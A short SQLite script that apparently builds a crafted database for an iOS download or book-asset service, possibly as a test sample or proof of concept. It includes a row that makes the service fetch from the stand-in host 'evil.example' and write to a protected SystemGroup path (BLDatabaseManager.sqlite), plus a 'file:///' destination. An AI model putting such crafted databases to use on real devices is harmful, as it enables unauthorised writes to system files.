PRAGMA page_size=512;
CREATE TABLE asset (pid INTEGER PRIMARY KEY, download_id INTEGER, url TEXT, local_path TEXT, destination_url TEXT);
CREATE TABLE job_software (store_account_name TEXT);
INSERT INTO asset VALUES (1, 7, 'https://evil.example/fileprovider', '/private/var/containers/Shared/SystemGroup/X/Documents/BLDatabaseManager/BLDatabaseManager.sqlite', NULL), (2, 8, '', '', 'file:///');
INSERT INTO job_software VALUES ('someone@mail.example'), (NULL);
